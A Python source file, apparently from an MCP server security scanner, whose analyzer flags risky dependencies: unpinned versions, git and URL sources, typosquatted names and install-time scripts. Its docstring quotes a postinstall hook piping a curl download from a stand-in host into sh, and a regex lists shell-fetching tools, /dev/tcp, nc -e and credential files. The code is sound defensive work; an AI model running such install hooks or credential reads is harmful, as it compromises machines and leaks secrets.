"""Supply chain: what installing the server pulls in and runs, read from its manifests and lockfiles.

**Threat.** An MCP server runs with the agent's privileges, so whatever it installs does too. A dependency
left open (no version, ``*``, ``latest``, ``>=1.0`` alone) takes whatever the registry serves on install day,
including a hijacked release. npm lifecycle scripts (``preinstall``, ``install``, ``postinstall``,
``prepare``) and a ``setup.py`` that overrides the install command or calls out at import time run code on
every machine that installs the package, before anyone reviews the server: the usual way malicious packages
steal tokens. Git, URL and path dependencies bypass the registry, its immutability and its advisories; over
plain ``http`` anyone on the network can swap them. A name one typo away from a popular package (``fastmcp``
→ ``fast-mcp``, ``@modelcontextprotocol/sdk`` → ``@modelcontextprotoco1/sdk``, ``pydantic`` →
``pydnatic``) is the shape of typosquatting. Read: ``pyproject.toml`` (PEP 621, dependency groups, Poetry,
uv sources), ``requirements*.txt`` (``-r`` includes, ``-e``, URLs, hashes), ``setup.cfg``, ``setup.py``
(literals only, never run), ``Pipfile``, ``package.json``, ``package-lock.json``; ``poetry.lock``,
``uv.lock``, ``Pipfile.lock``, ``yarn.lock``, ``pnpm-lock.yaml`` and a fully pinned requirements file count
as lockfiles for their folder.

**Severity.** An open version is medium for a runtime dependency without a lockfile, low for development
and optional ones, and not reported under a lockfile. A lifecycle script is medium (``prepare`` low), high
when it downloads, pipes to a shell, decodes or reads credentials. Git and URL dependencies are medium (low
for development ones), low when pinned to a full commit or a hash, high over plain http; a local path is low
when it leaves the tree (a folder of the tree is scanned with it). A typosquat is high when it imitates a
core MCP package, medium otherwise.

**Audits.** With ``--pip-audit`` / ``--npm-audit`` (API: ``pip_audit`` / ``npm_audit``) exact versions are
looked up in the advisory databases, without installing anything: pip-audit on the lockfile's pins (or the
exact pins of the manifests), npm audit on each ``package-lock.json``. Each vulnerable package is a finding.
When an audit cannot run (tool missing, offline, registry refusing, a timeout, unreadable output) or skips
packages (unpinned, not from the registry, unknown to it), an informational finding says so and the
analyzer fails, so the scan is *incomplete*: it never reports "no known vulnerabilities" it did not check.

**Example.** ``"postinstall": "curl -s https://x.example/i.sh | sh"`` in package.json; ``mcp>=1.0`` in a
server's ``[project] dependencies`` with no ``uv.lock``; ``"@modelcontextprotocol-sdk/sdk": "^1.0.0"``;
``mytool @ git+https://github.com/someone/mytool`` in requirements.txt.

**Fix.** Commit a lockfile or pin exact versions (with hashes); remove install-time scripts or make them build
only from files in the package; depend on registry releases, pin git dependencies to a commit and use https
with a hash for archives; correct look-alike names and check machines that installed them.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Iterator
from typing import Self

from mcts.analyzers._audit import AuditIncomplete
from mcts.analyzers._audit_run import AuditRunner
from mcts.analyzers._manifest_tree import Tree, read_tree
from mcts.analyzers._manifests import Dependency, InstallHook, Origin, Pin, Scope
from mcts.analyzers._typosquat import find_squat
from mcts.analyzers.base import Analyzer, AnalyzerContext, SkipAnalyzer
from mcts.model.finding import Confidence, Finding, Location, Severity, SourceRef, Surface
from mcts.model.inventory import Inventory

LOCATION = Location(surface=Surface.SERVER, item=None, field="dependencies")
_FETCH_OR_RUN = re.compile(
    r"\b(?:curl|wget|Invoke-WebRequest|iwr|Invoke-Expression|iex|certutil|bitsadmin|powershell|urlopen|urlretrieve|"
    r"requests\.(?:get|post)|httpx\.|socket\.|b64decode|atob)\b|https?://|\|\s*(?:ba|z|da)?sh\b|\bbase64\s+-d|"
    r"\beval\b|\bnode\s+-e\b|\bpython[0-9.]*\s+-c\b|/dev/tcp/|\.ssh\b|\.npmrc|\.aws\b|\.env\b|NPM_TOKEN|GITHUB_TOKEN|"
    r"\bnc\s+-[a-z]*e",
    re.IGNORECASE,
)
_PREPARE = frozenset({"preprepare", "prepare", "postprepare"})


class SupplyChainAnalyzer(Analyzer):
    """Unpinned, URL, git and typosquatted dependencies, install-time scripts, and optional known-CVE audits."""

    id = "supply-chain"
    title = "Supply chain risk in the server's dependencies"
    techniques = ("unpinned-dependency", "install-script", "url-dependency", "typosquat-dependency",
                  "known-vulnerable-dependency")
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH

    def __init__(self, context: AnalyzerContext) -> None:
        super().__init__(context)
        self.incomplete: list[str] = []

    @classmethod
    def load(cls, context: AnalyzerContext) -> Self:
        """Run on source scans only: the manifests are files of the scanned tree."""
        if context.files is None:
            raise SkipAnalyzer("not a source scan")
        return cls(context)

    def analyze(self, inventory: Inventory) -> list[Finding]:
        """The findings; raises ``AuditIncomplete`` (carrying them) when a requested audit was not complete."""
        self.incomplete = []
        findings = super().analyze(inventory)
        if self.incomplete:
            raise AuditIncomplete("; ".join(self.incomplete), findings)
        return findings

    def check_inventory(self, inventory: Inventory) -> Iterator[Finding]:
        """Every manifest of the tree, then the audits the options ask for."""
        assert self.context.files is not None
        tree = read_tree(self.context.files)
        for file, why in tree.manifests.problems:
            yield self._at(file, 1, f"{file}: {why}", "unpinned-dependency", Severity.INFO,
                           "Manifest could not be read", "Its dependencies were not checked.")
        for dep in tree.manifests.dependencies:
            yield from self._dependency(tree, dep)
        for hook in tree.manifests.hooks:
            yield self._hook(hook)
        yield from self._lock_entries(tree)
        options = self.context.options
        if options.pip_audit or options.npm_audit:
            runner = AuditRunner(self._at, tree, options.analyzer_timeout * 0.8)
            if options.pip_audit:
                yield from runner.pip()
            if options.npm_audit:
                yield from runner.npm()
            self.incomplete.extend(runner.incomplete)

    def _at(self, file: str | None, line: int, evidence: str, technique: str, severity: Severity, title: str,
            detail: str, confidence: Confidence | None = None) -> Finding:
        # the file is part of the evidence, so the same line in two manifests gives two findings (ids hash evidence)
        shown = evidence if file is None or evidence.startswith(f"{file}:") else f"{file}: {evidence}"
        return self.finding(LOCATION, shown, technique=technique, severity=severity, title=title, detail=detail,
                            confidence=confidence, source=SourceRef(file=file, line=max(1, line)) if file else None)

    def _dependency(self, tree: Tree, dep: Dependency) -> Iterator[Finding]:
        shown = f"{dep.name} {dep.spec}".strip() if dep.origin is Origin.REGISTRY else f"{dep.name}: {dep.spec}"
        if dep.origin is Origin.REGISTRY:
            squat = find_squat(dep.name, dep.ecosystem)
            if squat is not None:
                yield self._at(dep.file, dep.line, shown, "typosquat-dependency",
                               Severity.HIGH if squat.core else Severity.MEDIUM,
                               f"Dependency name imitates {squat.target}",
                               f"{dep.name!r} {squat.how} from the popular {dep.ecosystem.value} package "
                               f"{squat.target!r}.", Confidence.MEDIUM)
            if dep.pin is Pin.OPEN and dep.scope not in (Scope.PEER, Scope.BUILD) and not tree.manifests.locked(dep):
                runtime = dep.scope is Scope.RUNTIME
                yield self._at(dep.file, dep.line, shown or dep.name, "unpinned-dependency",
                               Severity.MEDIUM if runtime else Severity.LOW,
                               f"Unpinned {dep.scope.value} dependency {dep.name}",
                               f"{dep.spec or 'No version'} accepts any future release and no lockfile covers "
                               f"{dep.file}: every install may run different code.")
            return
        yield from self._origin(dep, shown)

    def _origin(self, dep: Dependency, shown: str) -> Iterator[Finding]:
        if dep.origin is Origin.PATH:
            path = re.sub(r"^(?:file|link|portal):", "", dep.spec)
            if path.startswith(("/", "~")) or posixpath.normpath(posixpath.join(posixpath.dirname(dep.file), path)
                                                                 ).startswith(".."):
                yield self._at(dep.file, dep.line, shown, "url-dependency", Severity.LOW,
                               f"Dependency {dep.name} from a path outside the tree",
                               "Its code is installed from a folder that was not scanned with the server.")
            return  # a folder of this tree (a workspace package, the project itself) is scanned with it
        plain = dep.spec.lower().removeprefix("git+").startswith(("http://", "git://"))
        if plain:
            severity, how = Severity.HIGH, "over an unencrypted connection: anyone on the path can replace the code"
        elif dep.integrity:
            severity, how = Severity.LOW, "pinned to a commit or hash, but outside the registry and its advisories"
        else:
            severity, how = Severity.MEDIUM, "with no commit or hash: the content can change under the same reference"
            severity = Severity.LOW if dep.scope is Scope.DEV else severity  # on developer machines only
        kind = "a git repository" if dep.origin is Origin.GIT else "a URL"
        yield self._at(dep.file, dep.line, shown, "url-dependency", severity, f"Dependency {dep.name} from {kind}",
                       f"Fetched from {kind} {how}.")

    def _hook(self, hook: InstallHook) -> Finding:
        dangerous = bool(_FETCH_OR_RUN.search(hook.body))
        if dangerous:
            severity = Severity.HIGH
        elif hook.hook == "module code" or hook.hook in _PREPARE:
            severity = Severity.LOW
        else:
            severity = Severity.MEDIUM
        where = "setup.py" if hook.file.endswith("setup.py") else "npm lifecycle script"
        return self._at(hook.file, hook.line, f"{hook.hook}: {hook.body}", "install-script", severity,
                        f"Code runs at install time ({where} {hook.hook})",
                        "It downloads, runs a shell, decodes data or reads credentials at install time." if dangerous
                        else "It runs on every machine that installs the package, before the server is reviewed.")

    def _lock_entries(self, tree: Tree) -> Iterator[Finding]:
        for lock, entries in tree.npm_locks.items():
            scripted = sorted({e.name for e in entries if e.install_script})
            if scripted:
                shown = ", ".join(scripted[:20]) + (f" and {len(scripted) - 20} more" if len(scripted) > 20 else "")
                yield self._at(lock, 1, shown, "install-script", Severity.LOW,
                               f"{len(scripted)} locked packages run install scripts",
                               "npm runs their lifecycle scripts on install unless --ignore-scripts is set.")
            for entry in entries:
                if entry.resolved.lower().startswith(("http://", "git+http://", "git://")):
                    yield self._at(lock, entry.line, f"{entry.name}: {entry.resolved}", "url-dependency",
                                   Severity.HIGH, f"Locked package {entry.name} fetched without TLS",
                                   "Anyone on the network path can replace the package.")
